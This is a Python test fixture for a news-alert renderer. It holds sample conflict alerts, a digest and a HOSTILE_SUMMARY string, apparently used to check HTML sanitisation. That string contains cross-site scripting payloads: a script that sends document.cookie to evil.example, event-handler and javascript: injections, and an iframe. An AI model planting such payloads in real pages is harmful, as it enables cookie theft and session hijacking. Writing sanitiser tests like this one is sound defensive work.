"""Sample alerts and a digest shared by the renderer's tests."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta

from monitor.render.model import Alert, Digest, OtherSource

T0 = datetime(2026, 11, 28, 6, 0, tzinfo=UTC)

SHIPPED_TAG_PRIORITY = {"escalation": 2, "ceasefire": 1}  # as config/rules/conflict.yaml sets them

ALERT = Alert(
    watch="karabakh",
    severity="high",
    topics=["ceasefire", "escalation"],
    place="Nagorno-Karabakh",
    entities=["Nagorno-Karabakh", "Armenia", "Azerbaijan"],
    headline="Ceasefire violated as artillery shells Stepanakert",
    outlet="TASS",
    published_at=datetime(2020, 9, 27, 14, 5, tzinfo=UTC),
    link="https://tass.com/world/1205?utm=x&id=2",
    evidence=['escalation: "shells" (title)', 'ceasefire: "ceasefire" (title)'],
    summary="Martial law and mobilisation were declared in Armenia.",
    tag_priority=SHIPPED_TAG_PRIORITY,
)


def story(watch: str, severity: str, headline: str, minutes: int, sources: int = 0, place: str = "") -> Alert:
    return replace(
        ALERT,
        watch=watch,
        place=place or watch.title(),
        severity=severity,
        headline=headline,
        link=f"https://news.example/{headline.replace(' ', '-').lower()}",
        published_at=T0 + timedelta(minutes=minutes),
        sources=[OtherSource(f"Outlet {i}", headline, f"https://o{i}.example/x") for i in range(sources)],
    )


DIGEST = Digest(
    channel="ops-email",
    alerts=[
        story("sudan", "medium", "Sudan talks stall", 5),
        story("karabakh", "high", "Karabakh shelling", 10, sources=2, place="Nagorno-Karabakh"),
        story("ukraine", "critical", "Kyiv struck overnight", 1),
        story("karabakh", "critical", "Stepanakert under fire", 2, place="Nagorno-Karabakh"),
        story("karabakh", "critical", "Border post overrun", 30, place="Nagorno-Karabakh"),
        story("sudan", "low", "Aid convoy delayed", 50),
        story("ukraine", "high", "Drone attack on Odesa", 40),
    ],
    period_start=T0,
    period_end=T0 + timedelta(hours=1),
)

HOSTILE_SUMMARY = (
    "<p>Troops <b>advanced</b> near <a href='https://ok.example/map' onclick='steal()'>the river</a>.</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<style>body{display:none}</style>"
    "<img src=x onerror=alert(1)>"
    "<a href='javascript:alert(2)'>click me</a>"
    "<iframe src='https://evil.example/frame'></iframe>"
    "<svg onload=alert(3)></svg>"
)
